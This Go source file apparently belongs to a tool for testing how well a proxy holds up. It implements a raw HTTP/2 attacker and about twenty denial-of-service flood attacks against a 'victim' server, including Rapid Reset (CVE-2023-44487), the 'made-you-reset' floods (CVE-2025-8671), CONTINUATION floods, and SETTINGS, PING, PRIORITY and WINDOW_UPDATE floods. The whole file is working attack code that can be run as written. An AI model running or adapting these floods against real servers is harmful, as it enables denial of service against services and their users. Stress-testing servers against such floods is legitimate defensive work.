package attack

import (
	"bytes"
	"errors"
	"io"
	"strconv"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker2 is a client of HTTP/2 that keeps to nothing.
type attacker2 struct {
	*victim
	*http2.Framer
	out   *collector
	block bytes.Buffer
	coder *hpack.Encoder
}

// speak2 opens HTTP/2 on v, with these settings. Frames are collected and
// written 32 KiB at a time, so that the attacker costs little itself.
func speak2(v *victim, settings ...http2.Setting) (*attacker2, error) {
	w := &collector{to: v}
	a := &attacker2{victim: v, out: w}
	a.Framer = http2.NewFramer(w, v)
	a.AllowIllegalWrites = true
	a.coder = hpack.NewEncoder(&a.block)
	_, err := io.WriteString(w, http2.ClientPreface)
	return a, errors.Join(err, a.WriteSettings(settings...), a.WriteSettingsAck(), w.flush())
}

// collector writes in big pieces.
type collector struct {
	to io.Writer
	b  []byte
}

func (c *collector) Write(p []byte) (int, error) {
	c.b = append(c.b, p...)
	if len(c.b) < 32<<10 {
		return len(p), nil
	}
	return len(p), c.flush()
}

func (c *collector) flush() error {
	_, err := c.to.Write(c.b)
	c.b = c.b[:0]
	return err
}

// fields encodes a request head with more fields.
func (a *attacker2) fields(method, path string, more ...hpack.HeaderField) []byte {
	a.block.Reset()
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "a.test"}, {Name: ":path", Value: path}}, more...) {
		_ = a.coder.WriteField(f) // into memory
	}
	return a.block.Bytes()
}

func (a *attacker2) open(stream uint32, method, path string, end bool) error {
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: a.fields(method, path), EndStream: end, EndHeaders: true})
}

// flood repeats write until it fails or the time is up.
func flood(name, about string, reads bool, setUp func(*attacker2) error, write func(a *attacker2, n uint32) error) Attack {
	return Attack{Name: name, About: about, Span: 8 * time.Second, Connections: 4, Again: 50, Closes: true, H2: true, one: func(v *victim) error {
		a, err := speak2(v)
		if err != nil {
			return err
		}
		if reads {
			v.sink()
		}
		if setUp != nil {
			if err := setUp(a); err != nil {
				return err
			}
		}
		for n := uint32(0); n < 20_000_000 && !v.over(); n++ {
			if err := write(a, n); err != nil {
				return err
			}
			v.sent.Add(1)
		}
		return nil
	}}
}

func openPost(a *attacker2) error { return a.open(1, "POST", "/", false) }

// floods are frames that cost the sender little.
func floods() []Attack {
	return []Attack{
		flood("rapid-reset", "HEADERS and RST_STREAM(CANCEL), CVE-2023-44487", true, nil, func(a *attacker2, n uint32) error {
			return errors.Join(a.open(2*n+1, "GET", "/", true), a.WriteRSTStream(2*n+1, http2.ErrCodeCancel))
		}),
		flood("made-you-reset-window", "a request, then WINDOW_UPDATE beyond 2^31-1: the proxy resets, CVE-2025-8671", true, nil, func(a *attacker2, n uint32) error {
			return errors.Join(a.open(2*n+1, "GET", "/sleep/1000", true), a.WriteWindowUpdate(2*n+1, 1<<31-1))
		}),
		flood("made-you-reset-data", "a request, then DATA after its end: the proxy resets, CVE-2025-8671", true, nil, func(a *attacker2, n uint32) error {
			return errors.Join(a.open(2*n+1, "GET", "/sleep/1000", true), a.WriteData(2*n+1, true, []byte("x")))
		}),
		flood("made-you-reset-length", "a request whose DATA is longer than its content-length", true, nil, func(a *attacker2, n uint32) error {
			b := a.fields("POST", "/sleep/1000", hpack.HeaderField{Name: "content-length", Value: "1"})
			return errors.Join(a.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: b, EndHeaders: true}), a.WriteData(2*n+1, true, []byte("xyz")))
		}),
		flood("malformed-requests", "requests that the proxy has to reset: TE in HTTP/2", true, nil, func(a *attacker2, n uint32) error {
			b := a.fields("GET", "/", hpack.HeaderField{Name: "transfer-encoding", Value: "chunked"})
			return a.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: b, EndHeaders: true, EndStream: true})
		}),
		flood("too-many-streams", "streams beyond the limit, each to be refused", true, nil, func(a *attacker2, n uint32) error { return a.open(2*n+1, "POST", "/", false) }),
		flood("continuation", "CONTINUATION without end, 16 KiB of new fields each", true, unended, func(a *attacker2, n uint32) error { return a.WriteContinuation(1, false, literal(n, 16000)) }),
		flood("continuation-small", "CONTINUATION without end, one small field each", true, unended, func(a *attacker2, n uint32) error { return a.WriteContinuation(1, false, literal(n, 1)) }),
		flood("continuation-empty", "CONTINUATION without end and without a byte", true, unended, func(a *attacker2, n uint32) error { return a.WriteContinuation(1, false, nil) }),
		flood("settings", "SETTINGS, each to be acknowledged", true, nil, func(a *attacker2, n uint32) error {
			return a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + n%2})
		}),
		flood("settings-unread", "SETTINGS from one that reads no acknowledgement", false, nil, func(a *attacker2, n uint32) error {
			return a.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: n % 4096})
		}),
		flood("ping", "PING, each to be answered", true, nil, func(a *attacker2, n uint32) error { return a.WritePing(false, [8]byte{byte(n)}) }),
		flood("ping-unread", "PING from one that reads no answer", false, nil, func(a *attacker2, n uint32) error { return a.WritePing(false, [8]byte{byte(n)}) }),
		flood("empty-data", "DATA without a byte on an open stream", true, openPost, func(a *attacker2, n uint32) error { return a.WriteData(1, false, nil) }),
		flood("padded-data", "DATA of padding alone", true, openPost, func(a *attacker2, n uint32) error { return a.WriteDataPadded(1, false, nil, make([]byte, 1)) }),
		flood("priority", "PRIORITY for streams that are not", true, nil, func(a *attacker2, n uint32) error {
			return a.WritePriority(2*(n%1_000_000)+1, http2.PriorityParam{StreamDep: 0, Weight: uint8(n)})
		}),
		flood("window-update", "WINDOW_UPDATE of one byte on the connection", true, nil, func(a *attacker2, n uint32) error { return a.WriteWindowUpdate(0, 1) }),
		flood("window-update-stream", "WINDOW_UPDATE of one byte on a stream", true, openPost, func(a *attacker2, n uint32) error { return a.WriteWindowUpdate(1, 1) }),
		flood("unknown-frames", "frames of a type that nobody knows", true, nil, func(a *attacker2, n uint32) error { return a.WriteRawFrame(0xbf, 0, 0, []byte("12345678")) }),
		flood("rst-closed", "RST_STREAM for a stream that is closed", true, func(a *attacker2) error { return a.open(1, "GET", "/", true) }, func(a *attacker2, n uint32) error { return a.WriteRSTStream(1, http2.ErrCodeCancel) }),
	}
}

// unended opens a head that does not end.
func unended(a *attacker2) error {
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.fields("GET", "/"), EndStream: true})
}

// literal is a field without indexing, x-<n>: size bytes.
func literal(n uint32, size int) []byte {
	name := "x-" + strconv.Itoa(int(n))
	b := append([]byte{0, byte(len(name))}, name...)
	if size < 127 {
		b = append(b, byte(size))
	} else {
		b = hpack7(b, size)
	}
	return append(b, bytes.Repeat([]byte("v"), size)...)
}

// hpack7 writes n with a prefix of 7 bits.
func hpack7(b []byte, n int) []byte {
	b = append(b, 127)
	for n -= 127; n >= 128; n >>= 7 {
		b = append(b, byte(n)|0x80)
	}
	return append(b, byte(n))
}
